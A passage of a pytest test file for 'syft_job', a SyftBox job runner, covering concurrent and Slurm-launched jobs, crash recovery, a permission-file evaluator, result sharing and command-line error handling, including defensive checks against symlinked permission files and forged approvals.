                                    settings="max_concurrent_jobs=3")
        try:  # three start together; the fourth waits for a free place
            wait_for(lambda: sum((j / "stdout.txt").exists() and "started" in (j / "stdout.txt").read_text()
                                 for j in jobs) == 3, what="three jobs running at once")
            assert sum((j / "stdout.txt").exists() for j in jobs) == 3
            go.touch()
            assert proc.wait(timeout=60) == 0
        finally:
            go.touch()
            proc.kill()
    lines = console.read_text().splitlines()
    for i, job in enumerate(jobs):
        mine = [line for line in lines if line.startswith(f"[{OWNER}][j{i}] ")]
        assert mine == [f"[{OWNER}][j{i}] started"] + [
            f"[{OWNER}][j{i}] j{i}-line-{k}-abcdefghijklmnopqrstuvwxyz" for k in range(1, 2001)] + [
            f"[{OWNER}][j{i}] j{i}-partial"]
        assert (job / "returncode.txt").read_text() == "0"
    assert all(l.startswith(("[", "🚀", "📁", "✅", "📄", "=", "📋", "❌")) for l in lines if l), \
        [l for l in lines if l and not l.startswith(("[", "🚀", "📁", "✅", "📄", "=", "📋", "❌"))][:3]


@pytest.mark.slow
def test_ctrl_c_stops_every_running_job_and_leaves_them_approved(syftbox):
    runner = syft_job.create_runner(syftbox, OWNER)
    for i in range(3):
        make_job(runner, f"long {i}", f"sleep 994.{i}\n")
    proc = start_runner_process(syftbox, "runner.run()", settings="max_concurrent_jobs=3")
    try:
        wait_for(lambda: len(processes_with("994.")) == 3, what="three jobs running")
        proc.send_signal(signal.SIGINT)
        assert proc.wait(timeout=30) == 0
        wait_for(lambda: not processes_with("994."), 10, "every job to be stopped")
    finally:
        proc.kill()
        kill_marked("994.")
    assert [r["status"] for r in runner.list_jobs()] == ["interrupted"] * 3  # approved still, run again next


@pytest.mark.slow
def test_several_runners_with_several_jobs_each_run_every_job_exactly_once(syftbox, tmp_path):
    runner = syft_job.create_runner(syftbox, OWNER, isolation="none")
    log = tmp_path / "ran.log"
    log.touch(0o666)  # every job appends to it (as root, each run has a uid of its own)
    log.chmod(0o666)
    names = [f"job{i:02}" for i in range(30)]
    for name in names:
        script = f"echo {name} $PPID >> {log}\n"
        if name == "job00":  # holds the first runner until the other one has started a job
            script += f"for i in $(seq 1000); do [ $(wc -l < {log}) -ge 5 ] && break; sleep 0.02; done\n"
        make_job(runner, name, script)
    procs = [subprocess.Popen([sys.executable, "-m", "syft_job", "once", "--no-stream", "--jobs", "4",
                               "--isolation", "none", *site_args(syftbox)],
                              env=cli_env(), stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
             for _ in range(2)]
    outputs = [p.communicate(timeout=120)[0] for p in procs]
    assert [p.returncode for p in procs] == [0, 0], outputs
    ran = [line.split() for line in log.read_text().splitlines()]
    assert sorted(name for name, _ in ran) == names  # each job exactly once
    assert {pid for _, pid in ran} == {str(p.pid) for p in procs}  # and both runners worked
    assert all(r["status"] == "done" for r in runner.list_jobs())


@pytest.mark.slow
def test_a_job_another_runner_finished_since_the_scan_is_not_run_again(syftbox):
    first, second = (syft_job.create_runner(syftbox, OWNER, console=False) for _ in range(2))
    make_job(first, "legacy job", "echo ran\n")
    new_job(first, "new job", "echo ran\n")
    seen_before = second._jobs()  # both approved when the second runner looked
    assert sorted(r.name for r in first.process_approved_jobs()) == ["legacy job", "new job"]
    assert second._executor.run_round(seen_before, syft_job._RunOptions.make()) == []  # a race CI once hit


@pytest.mark.slow
def test_crash_recovery_takes_over_every_claim_of_a_runner_with_several_jobs_in_every_layout(syftbox, tmp_path):
    runner = syft_job.create_runner(syftbox, OWNER, isolation="none")
    results = []
    for i, layout in enumerate(("legacy", "v0", "v1")):
        counter = tmp_path / f"count{i}"
        script = (f"n=$(( $(cat {counter} 2>/dev/null || echo 0) + 1 )); echo $n > {counter}\n"
                  f"if [ $n -eq 1 ]; then setsid sleep 995.{i} & sleep 995.{i}; fi\necho run $n\n")
        if layout == "legacy":
            results.append(make_job(runner, f"c{i}", script))
        else:
            results.append(new_job(runner, f"c{i}", script, layout=layout)[1])
    proc = start_runner_process(syftbox, "runner.process_approved_jobs()",
                                settings="isolation='none', max_concurrent_jobs=3")
    try:
        wait_for(lambda: len(processes_with("995.")) == 6, 60, "three jobs and their leftovers")
        proc.kill()
        proc.wait(10)
    finally:
        proc.kill()
    assert [r["status"] for r in runner.list_jobs()] == ["interrupted"] * 3
    result = cli("once", "--jobs", "3", "--isolation", "none", *site_args(syftbox))
    assert result.stdout.count("attempt 2 of 3") == 3, result.stdout
    wait_for(lambda: not processes_with("995."), 10, "the leftovers of every claim to be stopped")
    assert [r["status"] for r in runner.list_jobs()] == ["done"] * 3
    assert all((folder / "stdout.txt").read_text() == "run 2\n" for folder in results)
    assert [state_of(folder)["status"] for folder in results[1:]] == ["done", "done"]


# ---------------------------------------------------------------------------
# Slurm: each job through srun, on a real single-node Slurm (scripts/slurm-single-node.sh)
# ---------------------------------------------------------------------------


@pytest.fixture(scope="session")
def slurm() -> None:
    """A running single-node Slurm, started by the project's script; skipped (with the
    reason) where it cannot be had."""
    script = HERE / "scripts" / "slurm-single-node.sh"
    if os.geteuid() != 0:
        pytest.skip("Slurm tests need root, to start the Slurm daemons")
    if not shutil.which("srun") or not os.path.exists("/usr/sbin/slurmctld"):
        pytest.skip("Slurm is not installed (apt-get install slurmctld slurmd slurm-client munge; .ci/run does)")
    started = subprocess.run([str(script)], capture_output=True, text=True, timeout=120)
    if started.returncode != 0:
        pytest.skip(f"Slurm could not be started here: {started.stderr.strip()[-300:]}")


def slurm_jobs(name_start: str = "syft-job") -> list[str]:
    listing = subprocess.run(["squeue", "-h", "-o", "%j"], capture_output=True, text=True, timeout=30).stdout
    return [name for name in listing.split() if name.startswith(name_start)]


@pytest.mark.parametrize("isolation", ["none", pytest.param("sandbox", marks=needs_sandbox)])
@pytest.mark.slurm
@pytest.mark.slow
def test_a_job_runs_through_srun_and_its_output_comes_back(slurm, syftbox, capsys, isolation):
    runner = syft_job.create_runner(syftbox, OWNER, launcher="slurm", isolation=isolation)
    job = make_job(runner, "on slurm", "echo job=$SLURM_JOB_NAME id=${SLURM_JOB_ID:+set}\npwd\n"
                                       "echo to-stderr >&2\necho r > outputs/r.txt\nls /proc | grep -c '^[0-9]'\n"
                                       "echo $SLURM_JOB_ID > outputs/id.txt\n")
    [result] = runner.process_approved_jobs(timeout=120)
    logs = {name: (job / name).read_text() for name in ("stdout.txt", "stderr.txt")}
    assert result.succeeded, logs
    lines = logs["stdout.txt"].splitlines()
    assert re.match(r"^job=syft-job-[0-9a-f]{12} id=set$", lines[0]), logs
    assert lines[1].startswith(str(runner.settings.work_dir)), logs  # the private copy is its working folder
    assert logs["stderr.txt"] == "to-stderr\n", logs  # nothing of srun's own
    assert (job / "outputs" / "r.txt").read_text() == "r\n"
    slurm_id = runner.list_jobs()[0]["slurm_job_id"]  # list --json and show carry it
    assert isinstance(slurm_id, int) and (job / "outputs" / "id.txt").read_text() == f"{slurm_id}\n"
    assert f"Slurm job:  {slurm_id}" in cli("show", "on slurm", *site_args(syftbox)).stdout
    if isolation == "sandbox":
        assert int(lines[2]) < 10, logs  # the sandbox runs inside the allocation
    assert f"[{OWNER}][on slurm] job=syft-job-" in capsys.readouterr().out
    wait_for(lambda: not slurm_jobs(), 30, "the Slurm job to leave squeue")


@pytest.mark.slurm
@pytest.mark.slow
def test_a_timeout_or_a_cancel_cancels_the_slurm_job(slurm, syftbox, capsys):
    runner = syft_job.create_runner(syftbox, OWNER, launcher="slurm", isolation="none")
    make_job(runner, "too long", "echo started\nsleep 996.1\n")
    [result] = runner.process_approved_jobs(timeout=2)
    assert result.return_code == -1 and "timed out" in result.reason
    wait_for(lambda: not slurm_jobs() and not processes_with("996.1"), 20, "the Slurm job to be cancelled")
    job = make_job(runner, "cancelled", "echo started\nsleep 996.2\n")
    worker = threading.Thread(target=runner.process_approved_jobs, kwargs={"timeout": 120})
    worker.start()
    try:
        wait_for(lambda: (job / "stdout.txt").exists() and "started" in (job / "stdout.txt").read_text())
        result = cli("cancel", "cancelled", *site_args(syftbox))
        assert result.returncode == 0 and "it is failed now" in result.stdout, result.stdout + result.stderr
    finally:
        worker.join(60)
    wait_for(lambda: not slurm_jobs() and not processes_with("996.2"), 20, "the Slurm job to be cancelled")
    assert "cancelled by the data owner" in (job / "stderr.txt").read_text()
    assert "srun" not in (job / "stderr.txt").read_text()  # srun's messages while it stops stay out


@pytest.mark.slurm
@pytest.mark.slow
def test_slurm_args_come_last_and_slurm_refusals_fail_only_that_job(slurm, syftbox, tmp_path, monkeypatch):
    runner = syft_job.create_runner(syftbox, OWNER, launcher="slurm", isolation="none",
                                    slurm_args=["--job-name=owner-named", "--partition=nope"])
    refused = make_job(runner, "refused", "echo never\n")
    [result] = runner.process_approved_jobs(timeout=60)
    assert result.status == "failed" and "never" not in (refused / "stdout.txt").read_text()
    assert "invalid partition" in (refused / "stderr.txt").read_text().lower()
    named = syft_job.create_runner(syftbox, OWNER, launcher="slurm", isolation="none",
                                   slurm_args=["--job-name=syft-job-owner-named"])
    job = make_job(named, "named", "echo $SLURM_JOB_NAME\n")
    named.process_approved_jobs(timeout=60)
    assert (job / "stdout.txt").read_text() == "syft-job-owner-named\n"  # the owner's argument won
    no_srun = tmp_path / "no-srun"
    no_srun.mkdir()
    (no_srun / "bash").symlink_to(shutil.which("bash"))
    monkeypatch.setenv("PATH", str(no_srun))
    missing = make_job(runner, "no srun", "echo never\n")
    [result] = syft_job.create_runner(syftbox, OWNER, launcher="slurm", isolation="none").process_approved_jobs()
    assert result.status == "failed" and "srun" in (missing / "stderr.txt").read_text()


@pytest.mark.skipif(os.geteuid() != 0, reason="a root owner's jobs run as nobody: the tests do not run as root here")
@pytest.mark.slurm
@pytest.mark.slow
def test_what_a_root_owners_job_submits_to_slurm_does_not_outlive_it(slurm, syftbox):
    job = legacy_job(syftbox, "sbatch", "srun id -u; sbatch --job-name=left-by-a-job --wrap 'sleep 300'\n")
    cli("once", "--isolation", "none", *site_args(syftbox))
    try:
        out = (job / "stdout.txt").read_text() + (job / "stderr.txt").read_text()
        assert "Submitted batch job" in out and not re.search(r"^0$", out, re.M), out  # srun gave it no rights back
        wait_for(lambda: "left-by-a-job" not in subprocess.run(["squeue", "-h", "-o", "%j"], capture_output=True,
                                                               text=True).stdout, 30, "its sbatch job to be cancelled")
    finally:
        subprocess.run(["scancel", "--name=left-by-a-job"], capture_output=True)


@pytest.mark.slurm
@pytest.mark.slow
def test_several_slurm_jobs_run_at_once(slurm, syftbox):
    go = go_file(syftbox)
    runner = syft_job.create_runner(syftbox, OWNER, launcher="slurm", isolation="none", max_concurrent_jobs=2)
    jobs = [make_job(runner, f"s{i}", f"echo started\n{WAIT_FOR_GO}echo finished\n") for i in range(2)]
    worker = threading.Thread(target=runner.process_approved_jobs, kwargs={"timeout": 120})
    worker.start()
    try:
        wait_for(lambda: all((j / "stdout.txt").exists() and "started" in (j / "stdout.txt").read_text()
                             for j in jobs), 60, "two Slurm jobs running at once")
        assert len(slurm_jobs()) == 2
    finally:
        go.touch()
        worker.join(60)
    assert all((j / "stdout.txt").read_text() == "started\nfinished\n" for j in jobs)


# ---------------------------------------------------------------------------
# Sharing: a SyftBox permission evaluator (SPEC.md), and the rules the runner writes
# ---------------------------------------------------------------------------

_LEVELS = ("read", "write", "admin")


def _segment_regex(segment: str) -> str:
    out, i = [], 0
    while i < len(segment):
        ch = segment[i]
        if ch == "\\" and i + 1 < len(segment):
            out.append(re.escape(segment[i + 1]))
            i += 2
            continue
        if ch == "*":
            out.append("[^/]*")
        elif ch == "?":
            out.append("[^/]")
        elif ch == "[":
            end = segment.index("]", i)
            out.append("[" + segment[i + 1:end].replace("!", "^", 1) + "]")
            i = end
        elif ch == "{":
            end = segment.index("}", i)
            out.append("(?:" + "|".join(re.escape(a) for a in segment[i + 1:end].split(",")) + ")")
            i = end
        else:
            out.append(re.escape(ch))
        i += 1
    return "".join(out)


def _is_literal(segment: str) -> bool:
    return not re.search(r"(?<!\\)[*?\[\]{}]", segment)


def glob_matches(pattern: str, path: str) -> bool:
    """doublestar semantics: '*' within a segment, '**' any number of segments."""
    segments = pattern.split("/")
    regex = ""
    for i, segment in enumerate(segments):
        last = i == len(segments) - 1
        if segment == "**":
            regex += ".*" if last else "(?:[^/]+/)*"
        else:
            regex += _segment_regex(segment) + ("" if last else "/")
    return re.fullmatch(regex, path) is not None


def rank(pattern: str) -> tuple:
    """SyftBox's specificity, higher first (SPEC.md)."""
    segments = pattern.split("/")
    return ("{{.UserEmail}}" in pattern,
            sum(1 for s in segments if _is_literal(s)),
            sum(1 for s in segments if not _is_literal(s) and s != "**"),
            -sum(1 for s in segments if s == "**"),
            len(segments))


def user_listed(users, user: str) -> bool:
    return any(u == "*" or u == user or (u.startswith("*@") and user.endswith(u[1:])) for u in users or [])


def can(syftbox: Path, user: str, path: Path, level: str) -> bool:
    """May ``user`` ``level`` (read/write/admin) ``path``, as SyftBox decides. (An
    implementation of the tests' own, to check the runner's rules and its judge.)"""
    syftbox, path = Path(syftbox).resolve(), Path(path)
    relative = path.relative_to(syftbox)
    owner = relative.parts[0]
    if user == owner:
        return True
    governing = None
    folder = syftbox / owner
    for part in (None,) + relative.parts[1:-1]:
        folder = folder / part if part else folder
        candidate = folder / "syft.pub.yaml"
        if candidate.is_file():
            governing = candidate
            if syft_job.load_yaml(candidate.read_text()).get("terminal"):
                break
    if governing is None:
        return False
    if path.name == "syft.pub.yaml":
        level = "admin"
    rules = syft_job.load_yaml(governing.read_text()).get("rules") or []
    target = path.relative_to(governing.parent).as_posix()
    matching = [r for r in rules if glob_matches(r["pattern"].replace("{{.UserEmail}}", user), target)]
    if not matching:
        return False
    best = max(matching, key=lambda r: rank(r["pattern"]))  # max keeps the first of equals
    access = best.get("access") or {}
    verdict = any(user_listed(access.get(lvl), user) for lvl in _LEVELS[_LEVELS.index(level):])
    cautious = syft_job._may(syftbox, owner, user, str(path), level)  # the runner agrees, writing judged failing closed
    assert cautious == verdict if level == "read" else cautious >= verdict, (user, path, level)
    return verdict


def test_evaluator_follows_the_spec_on_the_fixtures(tmp_path):
    site = tmp_path / "do@test.org" / "app_data"
    site.mkdir(parents=True)
    (site / "syft.pub.yaml").write_text((HERE / "tests/fixtures/yaml/perm_multi.yaml").read_text())
    path = lambda p: site / p
    assert can(tmp_path, "ds@test.org", path("test.job/stdout.txt"), "read")
    assert not can(tmp_path, "ds@test.org", path("test.job/stdout.txt"), "write")  # beats '**'
    assert can(tmp_path, "x@company.com", path("test.job/outputs/a/b.csv"), "read")
    assert not can(tmp_path, "x@company.com", path("test.job/stdout.txt"), "read")
    assert can(tmp_path, "anyone@else.org", path("other/file"), "read")  # '**' read '*'
    assert can(tmp_path, "ds@test.org", path("other/file"), "write")
    assert not can(tmp_path, "ds@test.org", path("syft.pub.yaml"), "read")  # needs admin
    assert can(tmp_path, "do@test.org", path("anything"), "admin")  # the owner
    assert rank("t.job/stdout.txt") > rank("*/stdout.txt") > rank("**")
    assert glob_matches(r"a\*b/x", "a*b/x") and not glob_matches(r"a\*b/x", "axb/x")
    (site / "sub").mkdir()
    (site / "sub" / "syft.pub.yaml").write_text("rules:\n- pattern: '**'\n  access:\n    read: [z@z.org]\n")
    assert can(tmp_path, "ds@test.org", path("sub/f"), "write")  # terminal: the upper file's '**'
    assert can(tmp_path, "anyone@else.org", path("sub/f"), "read")
    (site / "syft.pub.yaml").write_text(
        (HERE / "tests/fixtures/yaml/perm_multi.yaml").read_text().replace("terminal: true", "terminal: false"))
    assert can(tmp_path, "z@z.org", path("sub/f"), "read")  # the nearest file decides alone
    assert not can(tmp_path, "anyone@else.org", path("sub/f"), "read")
    assert not can(tmp_path, "ds@test.org", path("sub/f"), "write")


SUBMISSION = ("config.yaml", "run.sh", "code/main.py")
STATUS = ("approved", "done")
LOGS = ("stdout.txt", "stderr.txt", "returncode.txt")
OUTPUTS = ("outputs/result.csv", "outputs/deep/er.txt")
COLLEAGUE = "x@company.com"


def ds_folder_with_usual_permissions(runner, extra_read=()) -> Path:
    folder = runner.job_dir / DS
    folder.mkdir(parents=True, exist_ok=True)
    rules = {"rules": [{"pattern": "**", "access": {"admin": [], "read": list(extra_read), "write": [DS]}}],
             "terminal": False}
    (folder / "syft.pub.yaml").write_text(syft_job.dump_yaml(rules))
    return folder


def finished_job(runner, name: str = "test.job") -> Path:
    job = make_job(runner, name, "echo out\necho err >&2\nmkdir -p outputs/deep\necho 1 > outputs/result.csv\n"
                                 "echo 2 > outputs/deep/er.txt\n", approved=False)
    (job / "code").mkdir()
    (job / "code" / "main.py").write_text("")
    runner.check_for_new_jobs()  # the runner protects the folder; an approval from before could be forged
    (job / "approved").touch()
    runner.process_approved_jobs(stream_output=False)
    assert (job / "done").exists()
    return job


def access_table(syftbox: Path, job: Path, user: str) -> dict:
    return {(name, level): can(syftbox, user, job / name, level)
            for name in SUBMISSION + STATUS + LOGS + OUTPUTS for level in ("read", "write")}


def expected_table(read: tuple, write: tuple) -> dict:
    return {(name, level): name in (read if level == "read" else write)
            for name in SUBMISSION + STATUS + LOGS + OUTPUTS for level in ("read", "write")}


@pytest.mark.slow
def test_usual_layout_results_stay_private_until_shared_and_unshare_takes_it_back(runner, syftbox):
    ds_folder_with_usual_permissions(runner, extra_read=["*@company.com"])
    job = finished_job(runner)
    root = syftbox.resolve()
    submitter_before = expected_table(read=SUBMISSION + STATUS, write=SUBMISSION)
    assert access_table(root, job, DS) == submitter_before
    assert access_table(root, job, OTHER) == expected_table((), ())
    assert access_table(root, job, COLLEAGUE) == expected_table(read=SUBMISSION, write=())
    runner.share_job_results("test.job", share_outputs=False, share_logs=True)
    assert access_table(root, job, DS) == expected_table(read=SUBMISSION + STATUS + LOGS, write=SUBMISSION)
    runner.share_job_results("test.job", share_outputs=True, share_logs=False, user=DS)
    after = expected_table(read=SUBMISSION + STATUS + LOGS + OUTPUTS, write=SUBMISSION)
    assert access_table(root, job, DS) == after
    assert access_table(root, job, OTHER) == expected_table((), ())
    assert access_table(root, job, COLLEAGUE) == expected_table(read=SUBMISSION, write=())
    permission_file = runner.job_dir / DS / "syft.pub.yaml"
    before = permission_file.read_bytes()
    runner.share_job_results("test.job", share_outputs=True, share_logs=True)
    assert permission_file.read_bytes() == before  # sharing twice changes nothing
    second = finished_job(runner, "test.job2")
    assert access_table(root, second, DS) == submitter_before
    result = cli("unshare", "test.job", *site_args(syftbox))
    assert result.returncode == 0, result.stderr
    assert access_table(root, job, DS) == submitter_before
    assert "test.job/" not in permission_file.read_text()


@pytest.mark.slow
def test_a_glob_character_in_a_job_name_shares_only_that_job(runner, syftbox):
    ds_folder_with_usual_permissions(runner)
    starred = finished_job(runner, "a*b")
    lookalike = finished_job(runner, "axb")
    runner.share_job_results("a*b", share_outputs=True, share_logs=True)
    root = syftbox.resolve()
    assert can(root, DS, starred / "stdout.txt", "read")
    assert not can(root, DS, lookalike / "stdout.txt", "read")
    assert not can(root, DS, lookalike / "outputs/result.csv", "read")


@pytest.mark.slow
def test_no_permission_file_layout_shares_only_what_was_shared(runner, syftbox):
    job = finished_job(runner)
    root = syftbox.resolve()
    assert access_table(root, job, DS) == expected_table((), ())
    assert not (runner.job_dir / DS / "syft.pub.yaml").exists()  # nothing to protect
    runner.share_job_results("test.job", share_outputs=True, share_logs=True)
    assert access_table(root, job, DS) == expected_table(read=LOGS + OUTPUTS, write=())
    assert access_table(root, job, OTHER) == expected_table((), ())


def test_job_and_outputs_permission_files_of_other_tools_are_used(runner, syftbox):
    ds_folder_with_usual_permissions(runner)
    job = finished_job(runner)
    (job / "outputs" / "syft.pub.yaml").write_text(
        (HERE / "tests/fixtures/yaml/perm_outputs_owner_only.yaml").read_text().replace("do@test.org", OWNER))
    (job / "syft.pub.yaml").write_text(syft_job.dump_yaml(
        {"rules": [{"pattern": "**", "access": {"admin": [], "read": [], "write": [DS]}}], "terminal": False}))
    root = syftbox.resolve()
    assert not can(root, DS, job / "outputs/result.csv", "read")
    runner.share_job_results("test.job", share_outputs=True, share_logs=True)
    assert can(root, DS, job / "outputs/result.csv", "read")
    assert can(root, DS, job / "stdout.txt", "read") and not can(root, DS, job / "stdout.txt", "write")
    assert can(root, DS, job / "run.sh", "write")


def test_handwritten_file_is_edited_without_loss(runner, syftbox):
    folder = runner.job_dir / DS
    folder.mkdir(parents=True)
    handwritten = (HERE / "tests/fixtures/yaml/perm_handwritten.yaml").read_text()
    (folder / "syft.pub.yaml").write_text(handwritten)
    original_rules = syft_job.load_yaml(handwritten)["rules"]
    finished_job(runner)
    runner.share_job_results("test.job", share_outputs=True, share_logs=True)
    text = (folder / "syft.pub.yaml").read_text()
    assert text.startswith("# Share CSVs with specific people, keep everything else private\n")
    rules = syft_job.load_yaml(text)["rules"]
    assert all(rule in rules for rule in original_rules)
    root = syftbox.resolve()
    assert can(root, "alice@example.com", folder / "test.job" / "data.csv", "read")
    assert can(root, DS, folder / "test.job" / "outputs" / "result.csv", "read")


@pytest.mark.slow
def test_rules_written_by_others_between_two_shares_are_kept(runner, syftbox):
    ds_folder_with_usual_permissions(runner)
    first, second = finished_job(runner, "first"), finished_job(runner, "second")
    runner.share_job_results("first")
    path = runner.job_dir / DS / "syft.pub.yaml"
    data = syft_job.load_yaml(path.read_text())
    data["rules"].insert(0, {"pattern": "**/*.csv", "access": {"read": ["alice@example.com"]}})
    replaced = path.with_name("other-tool.tmp")
    replaced.write_text(syft_job.dump_yaml(data))
    os.replace(replaced, path)  # another tool's edit, as SyftBox tools write: a new file
    runner.share_job_results("second")
    assert {"pattern": "**/*.csv", "access": {"read": ["alice@example.com"]}} in \
        syft_job.load_yaml(path.read_text())["rules"]
    root = syftbox.resolve()
    assert can(root, "alice@example.com", second / "code" / "data.csv", "read")
    assert can(root, DS, first / "stdout.txt", "read") and can(root, DS, second / "stdout.txt", "read")


def test_sharing_a_missing_or_unfinished_job_writes_nothing(runner):
    folder = ds_folder_with_usual_permissions(runner)
    make_job(runner, "pending", "true", approved=False)
    runner.check_for_new_jobs()  # adds the protections once
    protected = (folder / "syft.pub.yaml").read_bytes()
    with pytest.raises(JobNotFoundError, match="no job named 'nope'"):
        runner.share_job_results("nope", True, True)
    with pytest.raises(JobError, match="not finished yet"):
        runner.share_job_results("pending", True, True)
    assert (folder / "syft.pub.yaml").read_bytes() == protected
    make_job(runner, "pending", "true", approved=False, submitter=OTHER)
    with pytest.raises(JobError, match="several jobs are named 'pending'"):
        runner.share_job_results("pending", True, True)


def test_permission_files_are_replaced_atomically_and_never_through_a_symlink(runner, tmp_path):
    folder = ds_folder_with_usual_permissions(runner)
    job = finished_job(runner)
    victim = tmp_path / "victim.yaml"
    victim.write_text("rules: []\n")
    (folder / "syft.pub.yaml").unlink()
    (folder / "syft.pub.yaml").symlink_to(victim)
    with pytest.raises(JobError, match="symlink"):
        runner.share_job_results("test.job", True, True)
    assert victim.read_text() == "rules: []\n"
    (folder / "syft.pub.yaml").unlink()
    ds_folder_with_usual_permissions(runner)
    inode = (folder / "syft.pub.yaml").stat().st_ino
    runner.share_job_results("test.job", True, True)
    assert (folder / "syft.pub.yaml").stat().st_ino != inode  # a new file renamed into place
    assert [p.name for p in folder.iterdir() if p.name.endswith(".tmp")] == []
    assert job.exists()


def test_no_submitter_can_approve_its_own_job_once_the_runner_has_looked(runner, syftbox):
    ds_folder_with_usual_permissions(runner)
    own_file = make_job(runner, "a first", "true", approved=False)
    (own_file / "syft.pub.yaml").write_text(syft_job.dump_yaml(
        {"rules": [{"pattern": "**", "access": {"admin": [], "read": [], "write": [DS]}}], "terminal": False}))
    plain = make_job(runner, "b second", "true", approved=False)
    root = syftbox.resolve()
    assert can(root, DS, own_file / "approved", "write") and can(root, DS, plain / "approved", "write")
    runner.check_for_new_jobs()
    for job in (own_file, plain):
        assert not can(root, DS, job / "approved", "write")
        assert can(root, DS, job / "approved", "read") and can(root, DS, job / "run.sh", "write")
    (plain / "approved").touch()  # the submitter approved it anyway (its rules were not in force)
    (runner.job_dir / DS / "syft.pub.yaml").write_text(syft_job.dump_yaml(
        {"rules": [{"pattern": "**", "access": {"write": [DS]}}]}))
    assert runner.process_approved_jobs() == []  # an approval the submitter could write is not trusted


# ---------------------------------------------------------------------------
# Review and operations: the command line
# ---------------------------------------------------------------------------

COMMAND_OPTIONS = {
    "run": ["--poll-interval", "--timeout", "--no-stream", "--share-outputs", "--share-logs", "--skip", "--strict",
            "--pass-env", "--max-memory", "--max-cpu", "--max-log-size", "--isolation", "--allow-read",
            "--no-network", "--work-dir", "--jobs", "--launcher", "--slurm-arg", "--syftbox-folder", "--email",
            "--run-as", "--max-output-size", "--max-output-files"],
    "once": ["--timeout", "--no-stream", "--share-outputs", "--share-logs", "--skip", "--strict", "--pass-env",
             "--max-memory", "--max-cpu", "--max-log-size", "--isolation", "--allow-read", "--no-network",
             "--work-dir", "--jobs", "--launcher", "--slurm-arg", "--run-as", "--max-output-size", "--max-output-files"],
    "list": ["--json", "--status", "--submitter"], "show": ["JOB", "--user", "--lines", "--all-lines"],
    "logs": ["JOB", "--follow", "--stderr", "--raw"], "approve": ["JOB", "--user", "--reason", "--digest"],
    "reject": ["JOB", "--reason"], "reopen": ["JOB"], "rerun": ["JOB"], "cancel": ["JOB"], "unshare": ["JOB"],
    "delete": ["JOB", "--yes"], "share": ["JOB", "--outputs", "--logs", "--user"], "add-submitter": ["EMAIL"],
    "reset": ["--yes"], "version": [], "demo": ["--folder"],
}


def help_text(capsys, *command: str) -> str:
    """What ``syft-job ... --help`` prints, from the command line in this process."""
    with pytest.raises(SystemExit) as exited:
        syft_job.main([*command, "--help"])
    assert exited.value.code == 0
    return capsys.readouterr().out


@pytest.mark.parametrize("command", sorted(COMMAND_OPTIONS))
def test_help_of_each_command_explains_its_options(command, capsys):
    entries: list[str] = []  # "  --option METAVAR  explanation", joined over its lines
    for line in help_text(capsys, command).splitlines():
        if re.match(r"^  \S", line):
            entries.append(line.strip())
        elif re.match(r"^   +\S", line) and entries:
            entries[-1] += " " + line.strip()
    for option in COMMAND_OPTIONS[command]:
        entry = next(e for e in entries if e.split()[0].rstrip(",") == option)
        explanation = [w for w in entry.split()[1:] if not re.fullmatch(r"[A-Z_,{}-]+|-\w,?", w)]
        assert len(explanation) >= 3, (command, option, entry)
    assert command in help_text(capsys)


@pytest.mark.slow
def test_version_at_the_top_level_and_as_a_command():
    assert cli("--version").stdout.strip() == cli("version").stdout.strip() == f"syft-job {syft_job.__version__}"


@pytest.mark.slow
def test_which_datasite_flags_then_environment_then_client_config(syftbox, tmp_path):
    assert cli("list", *site_args(syftbox)).returncode == 0
    env = cli_env(SYFTBOX_FOLDER=str(syftbox), SYFTBOX_EMAIL=OWNER)
    result = cli("list", env=env)
    assert result.returncode == 0 and "No jobs in" in result.stdout
    data_dir = tmp_path / "client-data"
    (data_dir / "datasites" / OWNER).mkdir(parents=True)
    config = tmp_path / "config.json"
    config.write_text(json.dumps({"data_dir": str(data_dir), "email": OWNER}))
    env = cli_env(SYFTBOX_FOLDER="", SYFTBOX_EMAIL="", SYFTBOX_CLIENT_CONFIG_PATH=str(config))
    result = cli("list", env=env)
    assert result.returncode == 0 and str(data_dir / "datasites" / OWNER) in result.stdout, result.stderr
    home = tmp_path / "home"
    (home / ".syftbox").mkdir(parents=True)
    (home / ".syftbox" / "config.json").write_text(json.dumps({"data_dir": str(syftbox), "email": OWNER}))
    assert cli("list", env=cli_env(HOME=str(home))).returncode == 0
    (home / ".syftbox" / "config.json").write_text(json.dumps({"data_dir": 5, "email": OWNER}))
    result = cli("list", env=cli_env(HOME=str(home)))
    assert result.returncode == 2 and "'data_dir' and 'email' must be strings" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    result = cli("list", env=cli_env(SYFTBOX_CLIENT_CONFIG_PATH=str(tmp_path / "missing.json")))
    assert result.returncode == 2 and f"SYFTBOX_CLIENT_CONFIG_PATH names {tmp_path / 'missing.json'}" in result.stderr
    before = cli("--syftbox-folder", str(syftbox), "--email", OWNER.upper(), "list")  # before the command, any case
    assert before.returncode == 0 and "No jobs in" in before.stdout, before.stderr
    empty_home = tmp_path / "empty-home"
    empty_home.mkdir()
    result = cli("list", env=cli_env(HOME=str(empty_home)))
    assert result.returncode == 2
    assert result.stderr.strip() == "syft-job list: error: no SyftBox folder given: pass --syftbox-folder PATH (or set SYFTBOX_FOLDER)"


@pytest.mark.parametrize("args, message", [
    (["show", "no such job"], "no job named 'no such job'"),
    (["approve", "nope"], "no job named 'nope'"),
    (["list", "--syftbox-folder", "/does/not/exist"], "SyftBox folder not found: /does/not/exist"),
    (["list", "--email", "not-an-email"], "does not look like an email"),
    (["list", "--email", "typo@exmaple.com"], "no datasite for typo@exmaple.com in"),
    (["run", "--email", "typo@exmaple.com"], "no datasite for typo@exmaple.com in"),
    (["once", "--timeout", "soon"], "'soon' is not a positive number"),
    (["run", "--poll-interval", "-1"], "'-1' is not a positive number"),
    (["once", "--jobs", "0"], "'0' is not a positive whole number"),
    (["share", "x"], "say what to share"),
    (["show", "x", "--lines", "0"], "'0' is not a positive whole number"),
    (["reset"], "without a terminal to confirm, pass --yes"),
    (["delete", "x"], "without a terminal to confirm, pass --yes"),
    (["reject", "x", "--reason", " "], "a rejection needs a reason"),
    (["list", "--status", "weird"], "invalid choice"),
    (["frobnicate"], "invalid choice"),
    (["list", "--work-dir", "/etc/hostname"], "is not a folder this runner can write in"),
    (["add-submitter", "x@test.org", "--email", "typo@test.org"], "no datasite for typo@test.org"),
    (["once", "--max-output-size", "lots"], "'lots' is not a size"),
    (["once", "--run-as", "no-such-account-here"], "run_as"),
    (["release", "x"], "name the result files to release"),
])
@pytest.mark.slow
def test_user_mistakes_print_one_line_and_exit_2(syftbox, args, message):
    base = site_args(syftbox)
    if "--syftbox-folder" in args:
